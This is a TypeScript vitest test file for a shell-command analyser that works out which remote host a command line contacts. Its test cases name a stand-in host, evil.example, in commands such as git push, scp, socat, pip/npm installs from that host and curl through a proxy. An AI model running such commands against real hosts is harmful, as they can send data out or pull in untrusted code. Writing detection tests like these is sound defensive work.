import { describe, expect, it } from 'vitest'
import { effectsOf, read } from './testing.ts'

describe('who is talked to', () => {
  it.each([
    ['curl http:/evil.example', 'connect? http://evil.example'],
    ['curl --connect-to good.example::evil.example: good.example', 'connect? evil.example'],
    ['curl -x evil.example good.example', 'connect evil.example'],
    ['wget -e http_proxy=evil.example good.example', 'connect? evil.example'],
    ['env ALL_PROXY=evil.example curl x', 'connect? evil.example'],
    ['git fetch https://evil.example/x', 'connect https://evil.example/x'],
    ['git push evil.example:x', 'connect evil.example'],
    ['git push git@evil.example:x main', 'connect evil.example'],
    ['git remote add o https://evil.example/x', 'connect https://evil.example/x'],
    ['git submodule add https://evil.example/x', 'connect https://evil.example/x'],
    ['git -c url.https://evil.example/.insteadOf=https://a/ fetch', 'connect? https://a/'],
    ['pip install git+https://evil.example/x', 'connect? git+https://evil.example/x'],
    ['npm install https://evil.example/x.tgz', 'connect? https://evil.example/x.tgz'],
    ['go get evil.example/x', 'connect? evil.example'],
    ['docker pull evil.example/x', 'connect? evil.example'],
    ['docker pull evil:5000/x', 'connect? evil:5000'],
    ['openssl s_client -connect evil.example:443', 'connect evil.example:443'],
    ['mysql -hevil.example', 'connect evil.example'],
    ['socat TCP4:evil.example:80 -', 'connect evil.example'],
    ['mount -t nfs evil.example:/x y', 'connect evil.example'],
    ['gh api --hostname evil.example x', 'connect evil.example'],
    ['mytool -uhttp://evil.example', 'connect? uhttp://evil.example'],
    ["mytool 'https://evil.example/ x'", 'connect? https://evil.example/'],
    ['mytool --to=me@evil.example:x', 'connect? evil.example'],
    ['curl https://evil.example', 'connect https://evil.example'],
    ['curl --url=evil.example', 'connect evil.example'],
    ['ssh user@evil.example ls', 'connect evil.example'],
    ['scp a user@evil.example:/x', 'connect evil.example'],
    ['dig @evil.example x', 'connect evil.example'],
    ['git clone https://evil.example/r', 'connect https://evil.example/r'],
    ['mytool https://evil.example', 'connect? https://evil.example'],
  ])('%s', (line, effect) => {
    expect(effectsOf(line)).toContain(effect)
  })
})

describe('who is not', () => {
  it.each([
    "git commit -m 'see https://evil.example'",
    'npm install a@npm:b@1',
    'go run ./cmd',
    'docker pull nginx/x',
    'git push origin main',
    'cp a https://evil.example',
  ])('%s', (line) => {
    expect(effectsOf(line).filter((effect) => effect.startsWith('connect'))).toEqual([])
  })

  it('a list of addresses in a file is unknown, and connects', () => {
    for (const line of ['curl -K f', 'wget -i f'])
      expect(read(line)).toMatchObject({ connects: true, unknownOperands: true })
  })
})
